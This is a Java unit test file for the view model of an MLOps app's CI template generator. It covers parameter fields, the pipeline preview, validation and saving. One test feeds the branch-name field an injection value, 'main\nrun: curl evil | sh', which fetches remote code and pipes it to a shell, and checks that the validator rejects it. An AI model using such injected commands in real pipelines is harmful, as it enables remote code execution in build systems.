package neural.mlops.app.ci;

import static org.assertj.core.api.Assertions.assertThat;
import static org.mockito.ArgumentMatchers.any;
import static org.mockito.ArgumentMatchers.anyString;
import static org.mockito.ArgumentMatchers.eq;
import static org.mockito.Mockito.mock;
import static org.mockito.Mockito.verify;
import static org.mockito.Mockito.when;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import neural.mlops.app.common.DialogService;
import neural.mlops.app.common.TaskExecutor;
import neural.mlops.ci.CiParameters;
import neural.mlops.ci.CiTemplateGenerator;
import neural.mlops.ci.Platform;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The CI Templates tab's view model: the form from the core's definitions, the live preview, Save As. */
class CiTemplatesViewModelTest {

    @TempDir
    Path dir;

    final DialogService dialogs = mock(DialogService.class);
    final CiTemplatesViewModel model = new CiTemplatesViewModel(TaskExecutor.CURRENT_THREAD, dialogs);

    @Test
    void theFormHasEveryParameterAtItsDefaultAndThePreviewIsTheDefaultPipeline() {
        assertThat(model.fields()).hasSize(CiParameters.definitions().size());
        assertThat(model.field("python_version").valueProperty().get()).isEqualTo("3.11");
        assertThat(model.field("require_approval").isBoolean()).isTrue();
        assertThat(model.field("ci_user").label()).isEqualTo("CI user");
        assertThat(model.previewProperty().get())
                .isEqualTo(new CiTemplateGenerator().generate(Platform.GITHUB, CiParameters.defaults()));
        assertThat(model.conventionalPath()).isEqualTo(".github/workflows/mlops.yml");
    }

    @Test
    void changingAParameterOrThePlatformUpdatesThePreview() {
        model.field("model_name").valueProperty().set("churn_model");
        assertThat(model.previewProperty().get()).contains("MODEL_NAME: \"churn_model\"");

        model.platformProperty().set(Platform.JENKINS);

        assertThat(model.previewProperty().get()).contains("pipeline {").contains("MODEL_NAME = 'churn_model'");
        assertThat(model.conventionalPath()).isEqualTo("Jenkinsfile");
    }

    @Test
    void anInvalidValueIsNamedKeepsTheLastGoodPreviewAndCannotBeSaved() {
        String good = model.previewProperty().get();

        model.field("main_branch").valueProperty().set("main\nrun: curl evil | sh");

        assertThat(model.field("main_branch").problemProperty().get()).isEqualTo("it must be a single line");
        assertThat(model.problemProperty().get()).isEqualTo("main_branch: it must be a single line");
        assertThat(model.previewProperty().get()).isEqualTo(good);
        assertThat(model.canSaveProperty().get()).isFalse();

        model.field("main_branch").valueProperty().set("release");
        assertThat(model.problemProperty().get()).isNull();
        assertThat(model.previewProperty().get()).contains("\"release\"");
    }

    @Test
    void valuesThatClashTogetherAreReportedFromTheCore() {
        model.field("production_environment").valueProperty().set("staging");

        assertThat(model.problemProperty().get()).contains("production_environment").contains("must differ from staging_environment");
        assertThat(model.canSaveProperty().get()).isFalse();
    }

    @Test
    void resetPutsEveryFieldBackToItsDefault() {
        model.field("model_name").valueProperty().set("other");
        model.field("require_approval").valueProperty().set("false");

        model.resetToDefaults();

        assertThat(model.field("model_name").valueProperty().get()).isEqualTo("my-model");
        assertThat(model.field("require_approval").valueProperty().get()).isEqualTo("true");
    }

    @Test
    void saveAsSuggestsTheConventionalFileAndWritesThePipelineThere() throws Exception {
        Path target = dir.resolve("repo/.github/workflows/mlops.yml");
        when(dialogs.chooseFileToSave(anyString(), any(), anyString(), any())).thenReturn(Optional.of(target));

        model.saveAs();

        verify(dialogs).chooseFileToSave(eq("Save GitHub Actions pipeline (.github/workflows/mlops.yml)"), any(),
                eq("mlops.yml"), eq(List.of("*.yml", "*.yaml")));
        assertThat(Files.readString(target)).isEqualTo(model.previewProperty().get());
        assertThat(model.statusProperty().get()).isEqualTo("Saved " + target);

        // The next Save As, for GitLab, starts in the same repository.
        Path gitlab = dir.resolve("repo/.gitlab-ci.yml");
        when(dialogs.chooseFileToSave(anyString(), any(), anyString(), any())).thenReturn(Optional.of(gitlab));
        model.platformProperty().set(Platform.GITLAB);
        model.saveAs();
        verify(dialogs).chooseFileToSave(anyString(), eq(dir.resolve("repo").toAbsolutePath()), eq(".gitlab-ci.yml"), any());
        assertThat(gitlab).exists();
    }

    @Test
    void theRepositoryIsFoundAboveTheConventionalPath() {
        Path conventional = Path.of(".github/workflows/mlops.yml");
        assertThat(CiTemplatesViewModel.repositoryOf(Path.of("/r/.github/workflows/mlops.yml"), conventional))
                .isEqualTo(Path.of("/r"));
        assertThat(CiTemplatesViewModel.repositoryOf(Path.of("/r/ci/mlops.yml"), conventional)).isEqualTo(Path.of("/r/ci"));
        assertThat(CiTemplatesViewModel.repositoryOf(Path.of("/r/Jenkinsfile"), Path.of("Jenkinsfile"))).isEqualTo(Path.of("/r"));
    }
}
